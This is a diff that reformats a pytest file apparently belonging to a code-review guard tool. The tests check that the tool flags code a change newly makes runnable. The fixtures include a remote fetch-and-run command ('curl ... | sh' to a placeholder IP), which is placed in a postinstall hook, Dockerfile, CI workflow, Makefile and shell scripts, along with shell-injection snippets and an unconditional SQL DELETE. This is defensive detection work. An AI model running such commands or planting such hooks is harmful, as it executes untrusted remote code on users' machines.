@@ -8,7 +8,9 @@ from cli_guard.reviewers import code, commands
 
 FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
 SHELL = 'import subprocess\n\n\ndef f(x):\n    subprocess.run("tar " + x, shell=True)\n'
-EXEC = 'const { exec } = require("child_process");\nfunction f(x) {\n  exec("tar " + x);\n}\n'
+EXEC = (
+    'const { exec } = require("child_process");\nfunction f(x) {\n  exec("tar " + x);\n}\n'
+)
 PACKAGE = f'{{"scripts": {{\n"postinstall": "{FETCH}"\n}}}}\n'
 GO = 'import "os/exec"\nfunc f(x string) {\n\texec.Command("sh", "-c", x).Run()\n}\n'
 HEAD = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
@@ -16,7 +18,9 @@ HEAD = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    
 
 CELL = '{"cell_type": "%s", "source": [\n"import subprocess\\n",\n"subprocess.run(x, shell=True)"\n]}'
 NOTEBOOK = (
-    '{"metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4, "cells": [\n' + CELL + "\n]}\n"
+    '{"metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4, "cells": [\n'
+    + CELL
+    + "\n]}\n"
 )
 
 
@@ -30,15 +34,27 @@ def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
 @table(
     ("path", "before", "after", "rule"),
     [
-        pytest.param("a.py", f'"""\n{SHELL}"""\n', SHELL, "code-python-shell", id="python-docstring"),
         pytest.param(
-            "a.py", f'"""Old.\n{SHELL}"""\n', f'"""Old."""\n{SHELL}', "code-python-shell", id="quotes-edited"
+            "a.py", f'"""\n{SHELL}"""\n', SHELL, "code-python-shell", id="python-docstring"
+        ),
+        pytest.param(
+            "a.py",
+            f'"""Old.\n{SHELL}"""\n',
+            f'"""Old."""\n{SHELL}',
+            "code-python-shell",
+            id="quotes-edited",
         ),
         pytest.param("a.js", f"/*\n{EXEC}*/\n", EXEC, "code-js-command", id="js-comment"),
         pytest.param(
-            "a.js", f"/*\n{EXEC}*/\n", f"/*\n*/\n{EXEC}", "code-js-command", id="js-comment-ended-above"
+            "a.js",
+            f"/*\n{EXEC}*/\n",
+            f"/*\n*/\n{EXEC}",
+            "code-js-command",
+            id="js-comment-ended-above",
         ),
-        pytest.param("a.js", f"let t = `\n{EXEC}`;\n", EXEC, "code-js-command", id="js-template"),
+        pytest.param(
+            "a.js", f"let t = `\n{EXEC}`;\n", EXEC, "code-js-command", id="js-template"
+        ),
         pytest.param(
             "a.go",
             f"package a\n/*\n{GO}*/\n",
@@ -54,7 +70,11 @@ def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
             id="php-comment",
         ),
         pytest.param(
-            "a.sql", "/*\nDELETE FROM t;\n*/\n", "DELETE FROM t;\n", "code-sql-delete-all", id="sql-comment"
+            "a.sql",
+            "/*\nDELETE FROM t;\n*/\n",
+            "DELETE FROM t;\n",
+            "code-sql-delete-all",
+            id="sql-comment",
         ),
         pytest.param(
             "a.sql",
@@ -72,7 +92,9 @@ def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
         ),
         pytest.param(
             "Dockerfile",
-            f"FROM debian:12\nRUN echo \\\n# x\n{FETCH}\nUSER a\n".replace("# x\n", "a \\\n"),
+            f"FROM debian:12\nRUN echo \\\n# x\n{FETCH}\nUSER a\n".replace(
+                "# x\n", "a \\\n"
+            ),
             f"FROM debian:12\nRUN \\\n{FETCH}\nUSER a\n",
             "command-remote-code",
             id="docker-continued",
@@ -149,7 +171,9 @@ def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
         ),
         pytest.param(
             ".github/workflows/a.yml",
-            f"{HEAD}      - run: {FETCH}\n".replace("    runs-on", "    if: false\n    runs-on"),
+            f"{HEAD}      - run: {FETCH}\n".replace(
+                "    runs-on", "    if: false\n    runs-on"
+            ),
             f"{HEAD}      - run: {FETCH}\n",
             "command-remote-code",
             id="workflow-job-if-false",
@@ -162,11 +186,17 @@ def found(path: str, before: str, after: str) -> list[tuple[str, int | None]]:
             id="python-text-that-is-run",
         ),
         pytest.param(
-            "a.ipynb", NOTEBOOK % "markdown", NOTEBOOK % "code", "code-python-shell", id="notebook-cell"
+            "a.ipynb",
+            NOTEBOOK % "markdown",
+            NOTEBOOK % "code",
+            "code-python-shell",
+            id="notebook-cell",
         ),
     ],
 )
-def test_what_a_change_makes_run_is_new(path: str, before: str, after: str, rule: str) -> None:
+def test_what_a_change_makes_run_is_new(
+    path: str, before: str, after: str, rule: str
+) -> None:
     assert rule not in [each for each, _ in found(path, before, before + "\n")]
     assert rule in [each for each, _ in found(path, before, after)]
 
@@ -175,15 +205,25 @@ def test_what_a_change_makes_run_is_new(path: str, before: str, after: str, rule
     ("path", "before", "after"),
     [
         pytest.param("a.py", f'"""Old."""\n{SHELL}', SHELL, id="docstring-deleted"),
-        pytest.param("a.py", f"# a\n{SHELL}# b\n", f"{SHELL}# b\nx = 1\n", id="lines-around"),
         pytest.param(
-            "a.py", f"if True:\n    x = 1\n{SHELL}", f"{SHELL}\n\ndef g():\n    return 1\n", id="more-around"
+            "a.py", f"# a\n{SHELL}# b\n", f"{SHELL}# b\nx = 1\n", id="lines-around"
         ),
         pytest.param(
-            "a.py", f"{SHELL}\n\ny = '''\n{SHELL}'''\n", f"{SHELL}\n\n# y = '''\n", id="text-deleted"
+            "a.py",
+            f"if True:\n    x = 1\n{SHELL}",
+            f"{SHELL}\n\ndef g():\n    return 1\n",
+            id="more-around",
+        ),
+        pytest.param(
+            "a.py",
+            f"{SHELL}\n\ny = '''\n{SHELL}'''\n",
+            f"{SHELL}\n\n# y = '''\n",
+            id="text-deleted",
         ),
         pytest.param("a.js", f"/* a */\n{EXEC}", EXEC, id="comment-deleted"),
-        pytest.param("a.sql", "-- a\nDELETE FROM t;\nSELECT 1;\n", "DELETE FROM t;\n", id="sql"),
+        pytest.param(
+            "a.sql", "-- a\nDELETE FROM t;\nSELECT 1;\n", "DELETE FROM t;\n", id="sql"
+        ),
         pytest.param(
             "Dockerfile",
             f"FROM debian:12\nARG a\nRUN {FETCH}\nUSER a\n",
@@ -191,17 +231,29 @@ def test_what_a_change_makes_run_is_new(path: str, before: str, after: str, rule
             id="docker",
         ),
         pytest.param(
-            "a.sh", f"#!/bin/sh\nif a; then ls; fi\n{FETCH}\n", f"#!/bin/sh\n{FETCH}\n", id="sh-other-if"
+            "a.sh",
+            f"#!/bin/sh\nif a; then ls; fi\n{FETCH}\n",
+            f"#!/bin/sh\n{FETCH}\n",
+            id="sh-other-if",
         ),
-        pytest.param("a.sh", f"#!/bin/sh\nls\n{FETCH}\nexit 0\n", f"#!/bin/sh\n{FETCH}\n", id="sh-end"),
+        pytest.param(
+            "a.sh",
+            f"#!/bin/sh\nls\n{FETCH}\nexit 0\n",
+            f"#!/bin/sh\n{FETCH}\n",
+            id="sh-end",
+        ),
         pytest.param(
             ".github/workflows/a.yml",
             f"{HEAD}      - run: ls\n      - run: {FETCH}\n",
             f"{HEAD}      - run: {FETCH}\n",
             id="step-deleted",
         ),
-        pytest.param("Makefile", f"a:\n\tls\nb:\n\t{FETCH}\n", f"b:\n\t{FETCH}\n", id="make"),
-        pytest.param("package.json", PACKAGE.replace("{\n", '{\n"a": "ls",\n'), PACKAGE, id="package"),
+        pytest.param(
+            "Makefile", f"a:\n\tls\nb:\n\t{FETCH}\n", f"b:\n\t{FETCH}\n", id="make"
+        ),
+        pytest.param(
+            "package.json", PACKAGE.replace("{\n", '{\n"a": "ls",\n'), PACKAGE, id="package"
+        ),
     ],
 )
 def test_what_ran_before_is_not(path: str, before: str, after: str) -> None:
